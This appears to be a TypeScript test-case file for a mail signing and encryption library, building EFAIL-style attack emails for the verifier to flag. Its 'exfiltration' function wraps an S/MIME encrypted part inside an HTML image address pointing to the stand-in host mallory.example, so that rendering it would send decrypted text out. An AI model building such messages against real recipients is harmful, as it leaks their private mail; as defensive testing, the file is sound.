/** Encrypted content that surrounding parts could leak, or that someone else signs (EFAIL, USENIX Security 2018). */
import { encryptCms } from '@govseal/cms/enveloped';
import { importPkcs8 } from '@govseal/crypto/node';
import { write } from '@govseal/der';
import { type Attack, attacks } from '../attack.ts';
import type { AttackScene } from '../scene.ts';
import { base64Lines, CONTENT, fromText, HEADER, lines, mailSigner, opaqueMail } from './mail-text.ts';

/** A public key pair of SM2: its encryption takes randomness from the scene, so that every run writes the same bytes. */
const readerKey = importPkcs8(
  write.sequence(
    write.integer(0),
    write.sequence(write.oid('1.2.840.10045.2.1'), write.oid('1.2.156.10197.1.301')),
    write.octetString(write.sequence(write.integer(1), write.octetString(new Uint8Array(32).fill(17)))),
  ),
);

/** The part that a recipient could decrypt. */
async function encryptedPart({ authority, engine }: AttackScene): Promise<readonly string[]> {
  const reader = await authority.issueSigner({ key: readerKey, keyUsage: ['keyEncipherment'] });
  const cms = encryptCms(fromText(CONTENT), {
    recipients: [reader.certificate.der],
    random: (length) => engine.randomBytes(length),
  });
  return [
    'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m',
    'Content-Transfer-Encoding: base64',
    '',
    base64Lines(cms),
  ];
}

const html = (text: string): readonly string[] => ['Content-Type: text/html', '', text];
const MIXED = 'Content-Type: multipart/mixed; boundary="mixed"';

const exfiltration = async (scene: AttackScene): Promise<readonly string[]> => [
  MIXED,
  '',
  '--mixed',
  ...html('<img src="http://mallory.example/'),
  '--mixed',
  ...(await encryptedPart(scene)),
  '--mixed',
  ...html('">'),
  '--mixed--',
  '',
];

export const mailEncryptedAttacks: readonly Attack[] = attacks('eml', {
  'mail-encrypted-part-in-html': [
    'an encrypted part between two halves of an HTML image address, which would send it out',
    'MAIL_ENCRYPTED_PART_ONLY',
    'unsigned',
    async (scene) => lines(...HEADER, ...(await exfiltration(scene))),
  ],
  'mail-encrypted-part-in-signed-html': [
    'the same, signed as a whole',
    'MAIL_ENCRYPTED_PART_ONLY',
    'indeterminate',
    async (scene) => {
      const signer = await mailSigner(scene, 'clerk');
      return opaqueMail({ scene, signer, content: lines(...(await exfiltration(scene))) });
    },
  ],
  'mail-signed-around-encrypted': [
    'a signature around the encrypted content of another: the signer need not know what is inside',
    'MAIL_SIGNED_CIPHERTEXT',
    'indeterminate',
    async (scene) => {
      const signer = await mailSigner(scene, 'clerk');
      return opaqueMail({ scene, signer, content: lines(...(await encryptedPart(scene)), '') });
    },
  ],
});
